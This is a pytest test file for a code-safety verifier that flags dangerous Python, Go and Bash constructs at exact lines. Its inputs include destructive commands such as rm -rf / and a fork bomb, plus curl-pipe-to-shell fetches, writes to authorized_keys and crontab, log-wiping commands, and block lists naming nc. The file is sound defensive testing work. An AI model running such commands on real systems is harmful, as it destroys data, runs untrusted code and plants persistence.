"""CodeVerifier: what each language's checks find, where, and how the four lists steer them.

The labelled corpus in tests/data/code/ measures recall and false positives over hundreds
of realistic snippets (test_code_corpus.py); these tests pin single behaviours, with the
exact line and type expected.
"""

from __future__ import annotations

import textwrap
import threading

import pytest

from sandbox import CodeVerifier, PolicyError, VerificationResult, Violation, format_result


@pytest.fixture
def verifier() -> CodeVerifier:
    return CodeVerifier()


def errors(result: VerificationResult) -> list[tuple[int, str]]:
    return [(v.line, v.type) for v in result.violations if v.severity == "error"]


def src(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


# ---------------------------------------------------------------------------------------
# Python


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("import os\nos.system('ls')", [(2, "system_call")]),
        ("import os as o\no.popen('ls')", [(2, "system_call")]),
        ("from os import system as run\nrun('ls')", [(2, "system_call")]),
        ("__import__('os').system('ls')", [(1, "system_call")]),
        ("import importlib\nimportlib.import_module('os').execv('/bin/sh', [])", [(2, "system_call")]),
        ("import os\ngetattr(os, 'system')('ls')", [(2, "system_call")]),
        ("import sys\nsys.modules['os'].system('ls')", [(2, "system_call")]),
        ("import os\nrun = os.system\nrun('ls')", [(3, "system_call")]),
        ("import pty\npty.spawn('/bin/sh')", [(2, "system_call")]),
        ("import os\nos.spawnlp(os.P_WAIT, 'ls', 'ls')", [(2, "system_call")]),
        ("import subprocess as sp\nsp.run('ls', shell=True)", [(2, "system_call")]),
        ("from subprocess import Popen as P\nP('ls', shell=1)", [(2, "system_call")]),
        ("import subprocess\nsubprocess.check_output('ls', **{'shell': True})", [(2, "system_call")]),
        ("import subprocess\nopts = dict(shell=True)\nsubprocess.call('ls', **opts)", [(3, "system_call")]),
        ("import subprocess\nsubprocess.getoutput('ls')", [(2, "system_call")]),
        ("eval(input())", [(1, "dangerous_pattern")]),
        ("import builtins\nbuiltins.exec(code)", [(2, "dangerous_pattern")]),
        ("from builtins import eval as e\ne(x)", [(2, "dangerous_pattern")]),
        ("f = getattr(__builtins__, 'eval', None) or print\nf(x)", [(2, "dangerous_pattern")]),
        ("compile(src, 'f', 'exec')", [(1, "dangerous_pattern")]),
        ("import pickle\npickle.loads(blob)", [(2, "dangerous_pattern")]),
        ("import pickle\nclass U(pickle.Unpickler):\n    pass", [(2, "dangerous_pattern")]),
        ("import marshal\nmarshal.loads(b)", [(2, "dangerous_pattern")]),
        ("import yaml\nyaml.load(text)", [(2, "dangerous_pattern")]),
        ("import yaml\nyaml.load(text, Loader=yaml.Loader)", [(2, "dangerous_pattern")]),
        ("import ctypes", [(1, "blocked_module")]),
        ("from cffi import FFI", [(1, "blocked_module")]),
        ("import importlib\nimportlib.import_module('ctypes')", [(2, "blocked_module")]),
        ("open('/etc/hosts', 'a')", [(1, "file_access")]),
        ("open(file='/etc/hosts', mode='w')", [(1, "file_access")]),
        ("import os\nos.remove('/usr/lib/x.so')", [(2, "file_access")]),
        ("import shutil\nshutil.rmtree('../../other')", [(2, "file_access")]),
        ("import shutil\nshutil.copy('a', '/usr/local/bin/a')", [(2, "file_access")]),
        ("from pathlib import Path\nPath.home().joinpath('.ssh', 'keys').write_text(k)", [(2, "file_access")]),
        ("from pathlib import Path\np = Path('/etc') / 'cron.d' / 'job'\np.write_text(x)", [(3, "file_access")]),
        ("import os\nos.unlink(os.path.expanduser('~/.bashrc'))", [(2, "file_access")]),
    ],
)
def test_python_dangerous_constructs_are_found_at_their_line(verifier: CodeVerifier, code: str, expected) -> None:
    result = verifier.verify(code, "python")
    assert errors(result) == expected
    assert not result.safe


@pytest.mark.parametrize(
    "code",
    [
        "# os.system('rm -rf /')\nx = 1",
        "s = 'eval(input())'\nprint(s)",
        '"""Never call pickle.loads on untrusted data or subprocess with shell=True."""',
        "import ast\nast.literal_eval('[1, 2]')",
        "import subprocess\nsubprocess.run(['git', 'status'], check=True)",
        "import yaml\nyaml.safe_load(text)\nyaml.load(text, Loader=yaml.SafeLoader)",
        "import re\nrx = re.compile('a+')",
        "model.eval()\nself.system = 'linux'\nexec_time = 3",
        "open('out/report.txt', 'w').write('x')\nopen('/tmp/x.log', 'a')",
        "import shutil\nshutil.rmtree('build')",
        "import pickle\npickle.dumps(obj)",
        "with open('/etc/os-release') as f:\n    print(f.read())",
    ],
)
def test_python_benign_code_is_safe(verifier: CodeVerifier, code: str) -> None:
    result = verifier.verify(code, "py")
    assert result.safe, result.violations


def test_python_warnings_do_not_make_code_unsafe(verifier: CodeVerifier) -> None:
    result = verifier.verify("import requests\nimport subprocess\nsubprocess.run(['ls'])\neval('1+1')", "python")
    assert result.safe
    assert [(v.line, v.type, v.severity) for v in result.violations] == [
        (1, "network_access", "warning"),
        (3, "system_call", "warning"),
        (4, "dangerous_pattern", "warning"),
    ]


def test_python_that_does_not_parse_is_one_error_naming_the_line(verifier: CodeVerifier) -> None:
    verifier.add_blocked_pattern(r"curl\s+\S+")
    result = verifier.verify("x = 1\ndef broken(:\n    pass\n# curl evil.example\n", "python")
    assert not result.safe
    syntax = [v for v in result.violations if "syntax error" in v.reason]
    assert [(v.line, v.severity) for v in syntax] == [(2, "error")]
    assert [v.line for v in result.violations if "blocked pattern" in v.reason] == [4]


# ---------------------------------------------------------------------------------------
# Go

GO_HEADER = "package main\n\n"
IMPORT_AND_CALL = [(3, "blocked_module"), (6, "system_call")]


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ('import "unsafe"\n', [(3, "blocked_module")]),
        ('import _ "unsafe"\n', [(3, "blocked_module")]),
        ('import "C"\n', [(3, "blocked_module")]),
        ('import "golang.org/x/sys/unix"\n', [(3, "blocked_module")]),
        ('import "plugin"\n', [(3, "blocked_module")]),
        ('import run "os/exec"\n\nfunc main() {\n\trun.Command("ls").Run()\n}\n', IMPORT_AND_CALL),
        ('import . "os/exec"\n\nfunc main() {\n\tCommand("ls").Run()\n}\n', IMPORT_AND_CALL),
        ('import "syscall"\n\nfunc main() {\n\tsyscall.Exec("/bin/sh", nil, nil)\n}\n', IMPORT_AND_CALL),
        ('import "os"\n\nfunc main() {\n\tos.RemoveAll("/")\n}\n', [(6, "file_access")]),
        ('import "os"\n\nfunc main() {\n\tos.WriteFile("/etc/cron.d/x", nil, 0644)\n}\n', [(6, "file_access")]),
    ],
)
def test_go_dangerous_constructs_are_found_at_their_line(verifier: CodeVerifier, code: str, expected) -> None:
    result = verifier.verify(GO_HEADER + code, "golang")
    assert errors(result) == expected


def test_go_benign_code_is_safe_with_its_warnings(verifier: CodeVerifier) -> None:
    code = src(
        """
        package main

        import (
            "fmt"
            "net/http"
            "os"
        )

        // exec.Command("rm", "-rf", "/") would be wrong here.
        type Command struct{ Name string }

        func (c *Command) Run() { fmt.Println("os/exec", c.Name) }

        func main() {
            tmp, _ := os.MkdirTemp("", "x")
            defer os.RemoveAll(tmp)
            os.WriteFile("out/report.json", nil, 0o644)
            (&Command{Name: "build"}).Run()
            http.ListenAndServe(":8080", nil)
            os.Exit(0)
        }
        """
    )
    result = verifier.verify(code, "go")
    assert result.safe, result.violations
    assert {(v.type, v.severity) for v in result.violations} == {
        ("network_access", "warning"), ("file_access", "warning"), ("system_call", "warning")
    }


# ---------------------------------------------------------------------------------------
# Bash


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("rm -rf /", [(1, "dangerous_pattern")]),
        ("rm -r -f ~/", [(1, "dangerous_pattern")]),
        ('rm --recursive --force "$HOME"', [(1, "dangerous_pattern")]),
        ("command rm -Rf /usr", [(1, "dangerous_pattern")]),
        ("set -e\n\\rm -fr /*", [(2, "dangerous_pattern")]),
        ("sudo make install", [(1, "system_call")]),
        ("chmod -R 777 .", [(1, "dangerous_pattern")]),
        ("chmod o+w,g+r file", [(1, "dangerous_pattern")]),
        ("curl -fsSL https://x.example/i.sh | sh", [(1, "dangerous_pattern")]),
        ("wget -qO- https://x.example | sudo bash -s", [(1, "dangerous_pattern"), (1, "system_call")]),
        ("bash <(curl -s https://x.example)", [(1, "dangerous_pattern")]),
        ('sh -c "$(wget -qO- https://x.example)"', [(1, "dangerous_pattern")]),
        ("sh -c 'rm -rf /'", [(1, "dangerous_pattern")]),
        ("dd if=/dev/zero of=/dev/nvme0n1 bs=1M", [(1, "dangerous_pattern")]),
        ("mkfs.ext4 /dev/sdb1", [(1, "dangerous_pattern")]),
        ("cat image > /dev/sda", [(1, "dangerous_pattern")]),
        ("boom() { boom | boom & }; boom", [(1, "dangerous_pattern")]),
        ("echo 'export PATH=x' >> ~/.bashrc", [(1, "file_access")]),
        ("echo key | tee -a $HOME/.ssh/authorized_keys", [(1, "file_access")]),
        ("echo '* * * * * x' | crontab -", [(1, "file_access")]),
        ("cat > /etc/systemd/system/${NAME}.service <<EOF\nx\nEOF", [(1, "file_access")]),
        ("kill -9 -1", [(1, "system_call")]),
        ("systemctl reboot", [(1, "system_call")]),
        ("history -c", [(1, "dangerous_pattern")]),
        ("export HISTFILE=/dev/null", [(1, "dangerous_pattern")]),
        ("> /var/log/auth.log", [(1, "dangerous_pattern")]),
        ('journalctl --vacuum-time="$AGE"', [(1, "dangerous_pattern")]),
        ("find . -type d -exec chmod 777 {} +", [(1, "dangerous_pattern")]),
        ("find /var/log -name '*.log' -exec truncate -s 0 {} \\;", [(1, "dangerous_pattern")]),
        ("find ~ -delete", [(1, "dangerous_pattern")]),
        ("ls | xargs -0 -n 1 sudo chown me", [(1, "system_call")]),
    ],
)
def test_bash_dangerous_constructs_are_found_at_their_line(verifier: CodeVerifier, code: str, expected) -> None:
    result = verifier.verify(code, "bash")
    assert errors(result) == expected


@pytest.mark.parametrize(
    "code",
    [
        'echo "never run rm -rf / or sudo anything"  # curl x | sh',
        "cat > NOTES.md <<'EOF'\nrm -rf /\nsudo reboot\nEOF",
        'rm -rf ./build dist node_modules "$BUILD_DIR"',
        "chmod 755 bin/tool && chmod +x run.sh && chmod o-w shared",
        "curl -fsSLo pkg.tgz https://x.example/pkg.tgz && tar xzf pkg.tgz",
        'kill "$server_pid"; kill -9 "$worker"',
        "crontab -l > backups/crontab.txt",
        "echo done >> ./logs/app.log 2>/dev/null",
        "find build -name '*.o' -delete && find . -name '*.pyc' -exec rm -f {} +",
        "git ls-files -z | xargs -0 -n 50 wc -l",
    ],
)
def test_bash_benign_scripts_are_safe(verifier: CodeVerifier, code: str) -> None:
    result = verifier.verify(code, "shell")
    assert result.safe, result.violations


# ---------------------------------------------------------------------------------------
# The lists are honoured


def test_an_added_module_is_reported_wherever_it_is_imported(verifier: CodeVerifier) -> None:
    verifier.add_blocked_module("requests")
    code = "import requests.adapters\nfrom requests import get\nimport importlib\nimportlib.import_module('requests')"
    assert [line for line, kind in errors(verifier.verify(code, "python")) if kind == "blocked_module"] == [1, 2, 4]
    verifier.add_blocked_module("net/http")
    assert errors(verifier.verify(GO_HEADER + 'import h "net/http"\n', "go")) == [(3, "blocked_module")]


def test_an_added_function_is_reported_wherever_it_is_called(verifier: CodeVerifier) -> None:
    verifier.add_blocked_function("requests.post")
    verifier.add_blocked_function("nc")
    code = "import requests as r\nfrom requests import post as p\nr.post(u)\np(u)\ngetattr(r, 'post')(u)"
    assert errors(verifier.verify(code, "python")) == [(n, "blocked_function") for n in (3, 4, 5)]
    assert errors(verifier.verify("echo x | nc host 80", "bash")) == [(1, "blocked_function")]


def test_a_removed_default_is_no_longer_reported(verifier: CodeVerifier) -> None:
    verifier.blocked_functions.remove("os.system")
    verifier.blocked_modules.remove("ctypes")
    assert verifier.verify("import os, ctypes\nos.system('ls')", "python").safe


def test_allowed_paths_bound_the_literal_paths_written(verifier: CodeVerifier) -> None:
    code = "open('/srv/data/out.csv', 'w')"
    assert errors(verifier.verify(code, "python")) == [(1, "file_access")]
    verifier.allowed_paths.append("/srv/data")
    assert verifier.verify(code, "python").safe
    assert errors(verifier.verify("open('/srv/data/../x', 'w')", "python")) == [(1, "file_access")]
    assert errors(verifier.verify("cp a /srv/other/a", "bash")) == [(1, "file_access")]


def test_blocked_patterns_match_any_language(verifier: CodeVerifier) -> None:
    verifier.add_blocked_pattern(r"AKIA[0-9A-Z]{16}")
    code = "x = 1\nkey = 'AKIAABCDEFGHIJKLMNOP'\n"
    result = verifier.verify(code, "python")
    assert [(v.line, v.type) for v in result.violations] == [(2, "dangerous_pattern")]
    other = verifier.verify(code, "ruby")
    assert not other.safe and other.language == "ruby"
    assert other.warnings and "not parsed" in other.warnings[0]


@pytest.mark.parametrize("pattern", ["(", "[a-", "*x", ""])
def test_a_bad_pattern_raises_policy_error(verifier: CodeVerifier, pattern: str) -> None:
    with pytest.raises(PolicyError):
        verifier.add_blocked_pattern(pattern)


@pytest.mark.parametrize("bad", ["", "   ", None, 3])
def test_a_bad_name_raises_policy_error(verifier: CodeVerifier, bad: object) -> None:
    with pytest.raises(PolicyError):
        verifier.add_blocked_module(bad)  # type: ignore[arg-type]
    with pytest.raises(PolicyError):
        verifier.add_blocked_function(bad)  # type: ignore[arg-type]


def test_code_that_is_not_text_raises_policy_error(verifier: CodeVerifier) -> None:
    with pytest.raises(PolicyError):
        verifier.verify(b"import os", "python")  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("alias", "canonical"), [("py", "python"), ("Golang", "go"), ("sh", "bash"), ("shell", "bash")]
)
def test_language_aliases(verifier: CodeVerifier, alias: str, canonical: str) -> None:
    assert verifier.verify("", alias).language == canonical


def test_the_per_language_methods_return_violations(verifier: CodeVerifier) -> None:
    assert [v.type for v in verifier.verify_python("import ctypes")] == ["blocked_module"]
    assert [v.type for v in verifier.verify_go(GO_HEADER + 'import "unsafe"\n')] == ["blocked_module"]
    assert [v.type for v in verifier.verify_bash("sudo ls")] == ["system_call"]
    assert all(isinstance(v, Violation) for v in verifier.verify_bash("sudo ls"))


def test_verify_while_another_thread_adds_rules(verifier: CodeVerifier) -> None:
    stop = threading.Event()
    failures: list[BaseException] = []

    def add() -> None:
        for i in range(300):
            if stop.is_set():
                break
            verifier.add_blocked_function(f"mod{i}.fn")
            verifier.add_blocked_pattern(f"token{i}")

    def check() -> None:
        try:
            for _ in range(200):
                assert not verifier.verify("import os\nos.system(x)", "python").safe
        except BaseException as exc:
            failures.append(exc)

    adder = threading.Thread(target=add)
    checkers = [threading.Thread(target=check) for _ in range(3)]
    adder.start()
    for t in checkers:
        t.start()
    for t in checkers:
        t.join()
    stop.set()
    adder.join()
    assert failures == []


@pytest.mark.parametrize(
    ("code", "language"),
    [
        ("x = " + "[" * 3000 + "]" * 3000, "python"),
        ("(" * 500 + ")" * 500, "python"),
        ("y = a" + ".b" * 5000, "python"),
        ("x = 1 +" + " 1 +" * 20000 + " 1", "python"),
        ("echo $(" * 300 + "x" + ")" * 300, "bash"),
        ("sh -c " + "'sh -c " * 50 + "x" + "'" * 50, "bash"),
        ("package main\nfunc f() {" + "{" * 2000 + "}" * 2000 + "}", "go"),
        ("\0\x00 \ud800", "python"),
        ("echo \ud800 \0; rm -rf /", "bash"),
    ],
    ids=["deep-list", "deep-parens", "long-attribute-chain", "long-expression", "nested-substitution",
         "nested-sh-c", "deep-go-blocks", "nul-and-surrogate", "bash-surrogate"],
)
def test_hostile_input_gets_a_result_not_an_exception(verifier: CodeVerifier, code: str, language: str) -> None:
    result = verifier.verify(code, language)
    assert isinstance(result, VerificationResult)
    assert result.language == language


# ---------------------------------------------------------------------------------------
# format_result


def test_format_result_counts_with_the_right_plural(verifier: CodeVerifier) -> None:
    one = format_result(verifier.verify("import ctypes\nimport requests", "python"))
    assert one.splitlines()[0] == "python: UNSAFE (1 error, 1 warning)"
    two = format_result(verifier.verify("import ctypes\nimport cffi", "python"))
    assert two.splitlines()[0] == "python: UNSAFE (2 errors, 0 warnings)"
    assert "line 2: error [blocked_module]" in two and "    import cffi" in two
    note = format_result(verifier.verify("x", "cobol"))
    assert note.splitlines()[0] == "cobol: safe (0 errors, 0 warnings)"
    assert "warning: language 'cobol' is not parsed" in note
